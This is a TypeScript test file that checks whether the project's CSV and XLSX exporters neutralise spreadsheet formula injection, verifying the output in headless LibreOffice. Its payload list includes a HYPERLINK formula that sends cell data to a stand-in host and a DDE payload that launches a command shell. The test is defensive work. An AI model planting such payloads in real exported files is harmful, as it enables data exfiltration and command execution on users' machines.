import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { csvCell, writeCsv } from './csv.ts'
import { writeXlsx } from './xlsx.ts'

/* A real spreadsheet program opens what we write and says what it took each cell for. */
const folder = mkdtempSync(join(tmpdir(), 'zh-sheet-'))
afterAll(() => rmSync(folder, { recursive: true }))
const office = spawnSync('which', ['localc']).status === 0

const attacks = [
  '=HYPERLINK("https://canary.invalid/?"&A1)',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  ';=1+1',
  '＝1',
  'DDE("cmd";"/C calc";"x")',
  'plain, "quoted" & <b>中文</b>',
]
async function* table(): AsyncGenerator<readonly string[]> {
  yield ['cell', 'mark']
  for (const attack of attacks) yield [attack, 'x']
}
const whole = async (pieces: AsyncIterable<Uint8Array>): Promise<Buffer> => {
  const all: Uint8Array[] = []
  for await (const piece of pieces) all.push(piece)
  return Buffer.concat(all)
}
/** The first column as LibreOffice gives it out again. */
function opened(name: string, bytes: Buffer): string[] {
  const path = join(folder, name)
  writeFileSync(path, bytes)
  const out = join(folder, `out-${name}`)
  // Commas, quotation marks, UTF-8, every text in quotation marks, as it is stored and not as it is shown.
  const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false'
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`
  // CSV is read as somebody would who lets the program compute formulas and look for numbers and dates.
  const reading = name.endsWith('.csv')
    ? [`--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,0,true,true`]
    : []
  const run = spawnSync('soffice', [profile, '--headless', ...reading, '--convert-to', filter, '--outdir', out, path])
  expect(run.status, String(run.stderr)).toBe(0)
  const text = readFileSync(join(out, name.replace(/\.\w+$/, '.csv')), 'utf8').replace(/^\ufeff/, '')
  return [...text.matchAll(/"((?:[^"]|"")*)","x"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
}

describe.skipIf(!office)('a table that a spreadsheet program opens (needs the package libreoffice-calc)', () => {
  it('PUB-IN-03: as a workbook has every cell as the text that was put in', async () => {
    expect(opened('list.xlsx', await whole(writeXlsx(table())))).toEqual(attacks)
  })
  it('PUB-IN-03: as CSV has every cell as text: what could be a formula behind an apostrophe', async () => {
    const cells = opened('list.csv', await whole(writeCsv(table())))
    const marked = attacks.map((attack) => (csvCell(attack).startsWith(`"'`) ? `'${attack}` : attack))
    expect(cells.map((cell) => cell.replaceAll('\n', '\r'))).toEqual(marked)
    expect(marked.filter((cell) => cell.startsWith("'"))).toHaveLength(8)
  })
})

it('a workbook says nothing of when it was made: the same table is the same bytes', async () => {
  const first = (await whole(writeXlsx(table()))).subarray(10, 14)
  expect(first).toEqual(Buffer.from([0, 0, 0x21, 0]))
})
